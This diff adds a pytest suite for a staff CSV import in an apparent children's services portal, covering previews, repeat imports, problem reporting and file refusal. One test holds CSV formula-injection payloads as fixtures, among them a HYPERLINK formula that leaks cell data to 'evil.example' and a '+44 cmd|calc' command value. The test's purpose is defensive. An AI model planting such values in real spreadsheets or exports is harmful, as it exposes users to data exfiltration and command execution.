@@ -1,0 +1,340 @@
+"""The staff import, with real files: exact changes and problems, the same file twice changes
+nothing, hostile cells are stored as text, unreadable files are refused whole."""
+
+from io import BytesIO
+from pathlib import Path
+
+import pytest
+from sqlalchemy import func, select
+
+from portal.extensions import db
+from portal.imports.reading import FileRefused, read_rows
+from portal.imports.staff import IMPORTER
+from portal.models import AuditEvent, Child, ImportRun, ImportStatus, User
+from portal.operations import staff
+from portal.operations.audit import Actor
+from tests.conftest import DEMO_EMAILS, csrf_token_from
+from workflows.roles import Role
+
+FIXTURES = Path(__file__).resolve().parent.parent / "fixtures" / "imports" / "staff"
+
+
+def check(name, progress=None):
+    _total, rows = read_rows(
+        (FIXTURES / name).read_bytes(),
+        encodings=IMPORTER.encodings,
+        required_columns=IMPORTER.required_columns,
+        optional_columns=IMPORTER.optional_columns,
+    )
+    return IMPORTER.check(db.session, rows, progress or (lambda _done: None))
+
+
+def commit(plan):
+    admin = db.session.scalar(select(User).where(User.email == DEMO_EMAILS["admin"]))
+    IMPORTER.apply(db.session, Actor.for_user(admin, "127.0.0.1"), plan)
+    db.session.commit()
+
+
+def changes(plan):
+    return [(change.row, change.action, change.summary) for change in plan.changes]
+
+
+def audit_count():
+    return db.session.scalar(select(func.count()).select_from(AuditEvent))
+
+
+def person(email):
+    return db.session.scalar(select(User).where(User.email == email))
+
+
+def roles_of(email):
+    user = person(email)
+    return sorted(
+        (
+            grant.role,
+            grant.school.urn if grant.school else None,
+            grant.child.authority_reference if grant.child else None,
+            grant.starts_on.isoformat() if grant.starts_on else None,
+        )
+        for grant in user.grants
+    )
+
+
+GOOD_CHANGES = [
+    (
+        2,
+        "new",
+        "New person: Helen Adams <helen.adams@oakfield.sch.uk>, Designated teacher for "
+        "Oakfield Primary School (URN 900201)",
+    ),
+    (
+        3,
+        "changed",
+        "Helen Adams <helen.adams@oakfield.sch.uk>: new role: Designated lead for "
+        "Little Acorns Nursery (URN 900101)",
+    ),
+    (
+        4,
+        "new",
+        "New person: Zoë Ødegaard <zoe.odegaard@demo-council.gov.uk>, Social worker for "
+        "Ava Thompson (DCC-1001)",
+    ),
+    (
+        5,
+        "changed",
+        "Zoë Ødegaard <zoe.odegaard@demo-council.gov.uk>: new role: Social worker "
+        "for Leo Okafor (DCC-1002)",
+    ),
+    (
+        6,
+        "new",
+        "New person: Pat Kelly <foster.pat@example.org>, Carer for Maya Kowalska (DCC-1003)",
+    ),
+    (7, "changed", "Pat Kelly <foster.pat@example.org>: new role: Carer for Noah Ahmed (DCC-1004)"),
+    (
+        8,
+        "new",
+        "New person: Ruth Ncube <ruth.vs@demo-council.gov.uk>, Virtual School adviser "
+        "for Jayden Scott (DCC-1501)",
+    ),
+    (
+        9,
+        "changed",
+        "Ruth Ncube <ruth.vs@demo-council.gov.uk>: new role: Virtual School "
+        "reviewer for the whole authority",
+    ),
+    (
+        10,
+        "unchanged",
+        "Unchanged: Sam Okoro <sw@demo.openpep.test>, Social worker for Ella Brown (DCC-1101)",
+    ),
+    (
+        11,
+        "changed",
+        "Sam Okoro <sw@demo.openpep.test>: new role: Social worker for Ava Thompson (DCC-1001)",
+    ),
+    (
+        12,
+        "new",
+        "New person: Kit Lead <kit.lead@demo-council.gov.uk>, Designated lead for "
+        "Northgate College (URN 900401)",
+    ),
+    (
+        13,
+        "new",
+        "New person: Morgan Boss <boss@demo-council.gov.uk>, Virtual School admin for "
+        "the whole authority",
+    ),
+]
+
+
+def test_a_good_file_adds_people_and_roles_exactly_as_previewed(seeded):
+    with seeded.app_context():
+        people_before = db.session.scalar(select(func.count()).select_from(User))
+        done = []
+        plan = check("good.csv", done.append)
+        assert plan.problems == []
+        assert changes(plan) == GOOD_CHANGES
+        assert plan.counts() == {"new": 6, "changed": 5, "unchanged": 1, "problems": 0}
+        assert done[-1] == 12
+        assert db.session.scalar(select(func.count()).select_from(User)) == people_before
+        commit(plan)
+
+        assert db.session.scalar(select(func.count()).select_from(User)) == people_before + 6
+        assert roles_of("helen.adams@oakfield.sch.uk") == [
+            ("designated_teacher", "900101", None, None),
+            ("designated_teacher", "900201", None, None),
+        ]
+        zoe = person("zoe.odegaard@demo-council.gov.uk")
+        assert zoe.display_name == "Zoë Ødegaard" and zoe.active and not zoe.sign_in_is_linked
+        assert roles_of("foster.pat@example.org") == [
+            ("carer", None, "DCC-1003", "2025-09-01"),
+            ("carer", None, "DCC-1004", "2025-10-15"),
+        ]
+        assert roles_of("ruth.vs@demo-council.gov.uk") == [
+            ("reviewer", None, None, None),
+            ("vs_adviser", None, "DCC-1501", None),
+        ]
+        assert ("social_worker", None, "DCC-1001", None) in roles_of(DEMO_EMAILS["social_worker"])
+        assert roles_of("boss@demo-council.gov.uk") == [("admin", None, None, None)]
+        granted = db.session.scalars(
+            select(AuditEvent).where(AuditEvent.action == "role.granted")
+        ).all()
+        assert len(granted) == 11
+        assert {event.details["source"] for event in granted} == {"staff import"}
+        assert granted[0].actor_description.startswith("Chris Byrne <admin@demo.openpep.test>")
+
+
+def test_the_same_file_twice_changes_nothing_the_second_time(seeded):
+    with seeded.app_context():
+        commit(check("good.csv"))
+        events = audit_count()
+        again = check("good.csv")
+        assert again.problems == []
+        assert {change.action for change in again.changes} == {"unchanged"}
+        assert again.counts() == {"unchanged": 12, "problems": 0}
+        commit(again)
+        assert audit_count() == events
+
+
+def test_a_changed_file_renames_adds_and_moves_a_carers_start_but_takes_nothing_away(seeded):
+    with seeded.app_context():
+        commit(check("good.csv"))
+        # A role given by hand since; the import never takes it away.
+        extra = staff.grant_role(
+            db.session,
+            Actor.system("test"),
+            person("kit.lead@demo-council.gov.uk"),
+            Role.REVIEWER,
+        )
+        assert not extra.refused
+        plan = check("changed.csv")
+        assert plan.problems == []
+        assert [c for c in changes(plan) if c[1] != "unchanged"] == [
+            (
+                2,
+                "changed",
+                "Helen Adams-Clarke <helen.adams@oakfield.sch.uk>: name changed from 'Helen Adams'",
+            ),
+            (
+                6,
+                "changed",
+                "Zoë Ødegaard <zoe.odegaard@demo-council.gov.uk>: new role: Social "
+                "worker for Chloe Brown (DCC-1201)",
+            ),
+            (
+                8,
+                "changed",
+                "Pat Kelly <foster.pat@example.org>: placement start changed for "
+                "Carer for Noah Ahmed (DCC-1004)",
+            ),
+        ]
+        assert plan.changes[0].fields == {"Name": ("Helen Adams", "Helen Adams-Clarke")}
+        assert plan.changes[6].fields == {"Starts on": ("15/10/2025", "03/11/2025")}
+        commit(plan)
+        assert person("helen.adams@oakfield.sch.uk").display_name == "Helen Adams-Clarke"
+        assert ("carer", None, "DCC-1004", "2025-11-03") in roles_of("foster.pat@example.org")
+        assert ("reviewer", None, None, None) in roles_of("kit.lead@demo-council.gov.uk")
+        assert check("changed.csv").counts() == {"unchanged": 13, "problems": 0}
+
+
+def test_every_problem_of_every_row_is_reported_and_nothing_changes(seeded):
+    with seeded.app_context():
+        events = audit_count()
+        plan = check("problems.csv")
+        found = [(p.row, p.column, p.problem) for p in plan.problems]
+        assert found == [
+            (2, "Role", "'Head teacher' is not a role."),
+            (
+                3,
+                "School URN",
+                "A designated teacher or lead needs the URN of their school or setting.",
+            ),
+            (4, "School URN", "No school or setting has the URN 123456."),
+            (5, "Child reference", "No child has the reference NO-SUCH-CHILD."),
+            (6, "Email", "'not an address' is not an email address."),
+            (7, "Starts on", "'31/02/2026' is not a date."),
+            (9, "Name", "This person is named 'Gil Seven' in row 8 and 'Gil Severn' here."),
+            (11, None, "This row is the same as row 10."),
+            (12, "Name", "The name is missing."),
+            (
+                12,
+                "Child reference",
+                "A social worker needs the reference of the child they work with.",
+            ),
+            (13, "School URN", "A Virtual School reviewer is not given a school or setting."),
+            (13, "Child reference", "A Virtual School reviewer is not given a child."),
+            (13, "Starts on", "Only a carer's role has a start date."),
+        ]
+        assert all(problem.fix.endswith(".") for problem in plan.problems)
+        assert plan.problems[0].fix.startswith("Enter one of: Designated teacher (or ")
+        assert plan.problems[7].fix == "Delete one of the two rows."
+        # Rows without problems still show what they would do; none is applied with problems.
+        assert [c[0] for c in changes(plan)] == [8, 10]
+        assert audit_count() == events
+
+
+def test_hostile_cells_are_stored_exactly_as_text(seeded):
+    with seeded.app_context():
+        plan = check("hostile.csv")
+        assert plan.problems == []
+        commit(plan)
+        assert person("formula@example.org").display_name == (
+            '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
+        )
+        assert person("plus@example.org").display_name == "+44 cmd|calc"
+        assert person("minus@example.org").display_name == "-2+3"
+        assert person("at@example.org").display_name == "@SUM(A1:A9)"
+        assert person("tab@example.org").display_name == "\t=1+1"
+
+
+@pytest.mark.parametrize(
+    ("name", "message"),
+    [
+        ("windows_1252.csv", "The file is not saved as UTF-8"),
+        ("missing_role_column.csv", "The file has no column Role."),
+    ],
+)
+def test_a_file_that_cannot_be_read_is_refused_whole(name, message):
+    with pytest.raises(FileRefused) as refused:
+        read_rows(
+            (FIXTURES / name).read_bytes(),
+            encodings=IMPORTER.encodings,
+            required_columns=IMPORTER.required_columns,
+            optional_columns=IMPORTER.optional_columns,
+        )
+    assert str(refused.value).startswith(message)
+
+
+def test_a_carers_start_comes_from_the_placement_when_the_file_has_none(seeded):
+    from datetime import date
+
+    from portal.models import CareEpisode
+
+    with seeded.app_context():
+        maya = db.session.scalar(select(Child).where(Child.authority_reference == "DCC-1003"))
+        db.session.add(
+            CareEpisode(child_id=maya.id, started_on=date(2025, 2, 3), legal_status="E1")
+        )
+        db.session.commit()
+        content = (
+            b"Email,Name,Role,Child reference\r\nnew.carer@example.org,Ali Carer,carer,DCC-1003\r\n"
+        )
+        _total, rows = read_rows(
+            content,
+            encodings=IMPORTER.encodings,
+            required_columns=IMPORTER.required_columns,
+            optional_columns=IMPORTER.optional_columns,
+        )
+        commit(IMPORTER.check(db.session, rows, lambda _done: None))
+        assert roles_of("new.carer@example.org") == [("carer", None, "DCC-1003", "2025-02-03")]
+
+
+def test_an_admin_imports_staff_through_the_preview_and_commit(app, client_for):
+    app.config["IMPORTS_IN_BACKGROUND"] = False
+    admin = client_for("admin")
+    response = admin.post(
+        "/admin/imports",
+        data={
+            "csrf_token": csrf_token_from(admin, "/admin/imports"),
+            "kind": "staff",
+            "file": (BytesIO((FIXTURES / "good.csv").read_bytes()), "staff.csv"),
+        },
+        content_type="multipart/form-data",
+    )
+    assert response.status_code == 303, response.get_data(as_text=True)
+    run_id = response.headers["Location"].rsplit("/", 1)[1]
+    preview = admin.get(f"/admin/imports/{run_id}").get_data(as_text=True)
+    assert "New person: Helen Adams" in preview
+    with app.app_context():
+        assert person("helen.adams@oakfield.sch.uk") is None
+    committed = admin.post(
+        f"/admin/imports/{run_id}/commit",
+        data={"csrf_token": csrf_token_from(admin, f"/admin/imports/{run_id}")},
+    )
+    assert committed.status_code == 303
+    with app.app_context():
+        run = db.session.scalar(select(ImportRun).where(ImportRun.kind == "staff"))
+        assert run.status == ImportStatus.COMMITTED.value
+        assert run.outcome["counts"] == {"new": 6, "changed": 5, "unchanged": 1, "problems": 0}
+        assert len(roles_of("helen.adams@oakfield.sch.uk")) == 2
